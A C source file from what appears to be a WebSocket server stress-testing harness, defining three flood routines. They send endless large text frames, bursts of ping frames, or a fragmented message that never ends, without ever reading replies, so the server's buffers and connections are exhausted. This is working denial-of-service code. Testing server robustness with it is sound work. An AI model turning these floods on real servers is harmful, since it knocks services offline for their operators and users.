/* SPDX-License-Identifier: MIT */
/* attacks/floods.c: WebSockets that send as much as they can, and do not read. */
#include "attacks/attack.h"

#define BIG_FRAME 65536

/* Writes the frame again and again, and never reads, until the server takes no more; then it keeps
 * the connection until the kind ends. */
static void floods(const char *frame, size_t n) {
    edo_writev_future f;
    edo_stream *c = upgraded();
    bool ok = c != NULL;
    while (ok && !atomic_load(&ends))
        ok = edo_timeout(edo_write_all_init(&f, c, frame, n), edo_ms(200)) == 0;
    if (c) (void)edo_sleep(edo_s(1));
    edo_close(c);
}

void floods_with_messages(void) {
    static char big[BIG_FRAME], frame[BIG_FRAME + 16];
    memset(big, 'x', sizeof big);
    size_t n = *to->greedy ? print_frame(frame, 0x81, to->greedy, strlen(to->greedy))
                           : print_frame(frame, 0x81, big, sizeof big);
    floods(frame, n);
}

void floods_with_pings(void) {
    static const char payload[125];
    static char frames[64 * 131];
    size_t n = 0;
    for (int i = 0; i < 64; i++) n += print_frame(frames + n, 0x89, payload, sizeof payload);
    floods(frames, n);
}

void floods_with_pieces(void) {
    static char frames[1024 * 7];
    size_t n = print_frame(frames, 0x01, "a", 1); // a text that never ends
    while (n + 7 <= sizeof frames) n += print_frame(frames + n, 0x00, "a", 1);
    floods(frames, n);
}
